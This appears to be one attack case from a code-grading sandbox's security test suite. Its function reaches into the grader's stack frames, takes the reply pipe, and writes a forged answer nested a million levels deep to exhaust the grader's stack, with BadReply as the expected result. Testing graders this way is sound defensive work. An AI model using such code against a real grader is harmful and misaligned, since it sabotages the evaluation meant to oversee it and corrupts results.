# attack: forges an answer nested a million levels deep, to exhaust the grader's stack
# class: protocol
# success: grader
# ends: BadReply
# holds: 1
import os, struct, sys
from grader.sandbox import protocol
def f(x, note):
    frame = sys._getframe()
    while "replies" not in frame.f_locals or "request" not in frame.f_locals:
        frame = frame.f_back
    whole = protocol.encode(protocol.Answer(frame.f_locals["request"].id, 0, protocol.Result({"y": None}, [], [], [])))[4:]
    body = whole.replace(b"\xa1y\xc0", b"\xa1y" + b"\x92\xa1l\x91" * 1_000_000 + b"\xc0")
    left = memoryview(struct.pack(">I", len(body)) + body)
    while left:
        left = left[os.write(frame.f_locals["replies"], left) :]
